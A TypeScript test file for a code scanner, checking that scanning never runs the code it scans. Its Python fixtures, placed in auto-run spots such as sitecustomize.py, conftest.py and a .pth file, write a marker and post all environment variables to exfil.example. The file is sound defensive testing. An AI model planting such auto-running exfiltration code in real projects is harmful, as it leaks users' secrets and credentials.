// The scanner never executes, imports or evaluates the code it scans (issue 7, "Done when").
// Every file here writes a marker when run or imported; after scanning through the API and the CLI
// (with PYTHONPATH pointing at the workspace, so a stray `python` would pick up sitecustomize.py),
// no marker may exist.
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { defaultConfig } from '../src/config/load.js';
import { scanPaths } from '../src/scan/scan.js';
import { builtinRules } from './helpers/engine.js';
import { runCli, STACK_FRAME, tempWorkspace } from './helpers/hostile.js';

function plant(write: (rel: string, data: string) => string, markerDir: string): string[] {
  const py = (name: string) =>
    [
      'import os',
      `open(os.path.join(${JSON.stringify(markerDir)}, ${JSON.stringify(name)}), "w").write("executed")`,
      'import requests',
      'requests.post("https://exfil.example/", data=os.environ)',
      '',
    ].join('\n');
  const files = {
    'app.py': py('app'),
    'setup.py': py('setup'),
    'conftest.py': py('conftest'),
    'sitecustomize.py': py('sitecustomize'),
    'usercustomize.py': py('usercustomize'),
    'pkg/__init__.py': py('init'),
    'pkg/__main__.py': py('main'),
    'noxfile.py': py('nox'),
    'docs/conf.py': py('sphinx'),
    'evil.pth': `import os; open(os.path.join(${JSON.stringify(markerDir)}, "pth"), "w")\n`,
    'pyproject.toml': '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n',
  };
  for (const [rel, text] of Object.entries(files)) write(rel, text);
  return Object.keys(files).filter((f) => f.endsWith('.py'));
}

describe('scanning never executes the scanned code', () => {
  let ws: ReturnType<typeof tempWorkspace>;
  let markers: string;
  let pyFiles: string[];
  beforeAll(() => {
    ws = tempWorkspace();
    markers = join(ws.root, '..', `${ws.root.split('/').pop()}-markers`);
    mkdirSync(markers, { recursive: true });
    pyFiles = plant(ws.write, markers);
  });
  afterAll(() => {
    ws.cleanup();
    rmSync(markers, { recursive: true, force: true });
  });

  it('the fixture is live: running one file with Python writes its marker', () => {
    const python = spawnSync('python3', ['-c', 'print(1)'], { encoding: 'utf8' });
    if (python.status !== 0) return; // no Python on this machine: the assertion below still holds
    const other = tempWorkspace();
    try {
      const probeDir = join(other.root, 'markers');
      mkdirSync(probeDir);
      plant(other.write, probeDir);
      spawnSync('python3', ['-S', join(other.root, 'app.py')]); // stops at `import requests`, after the write
      expect(readdirSync(probeDir)).toEqual(['app']);
    } finally {
      other.cleanup();
    }
  });

  it('scan API: findings reported, no marker written', async () => {
    const cfg = defaultConfig();
    const r = await scanPaths([], ws.root, { config: cfg, rules: builtinRules(cfg) });
    expect(new Set(r.findings.map((f) => f.file))).toEqual(new Set(pyFiles));
    expect(readdirSync(markers)).toEqual([]);
  });

  it('CLI scan (with worker threads) and CLI diff: no marker written', () => {
    const env = { PYTHONPATH: ws.root, PYTHONSTARTUP: join(ws.root, 'app.py') };
    const scan = runCli(['scan', '.', '--workers', '2', '--sarif', 'out/x.sarif'], ws.root, env);
    expect(scan.stderr).not.toMatch(STACK_FRAME);
    expect(scan.code).toBe(0);
    expect(scan.stdout).toContain('exfil.example');
    mkdirSync(join(ws.root, 'empty'), { recursive: true });
    const diff = runCli(['diff', '--base', 'empty', '--head', '.', '--markdown', 'out/c.md'], ws.root, env);
    expect(diff.stderr).not.toMatch(STACK_FRAME);
    expect(readdirSync(markers)).toEqual([]);
    expect(existsSync(join(markers, 'app'))).toBe(false);
  });
});
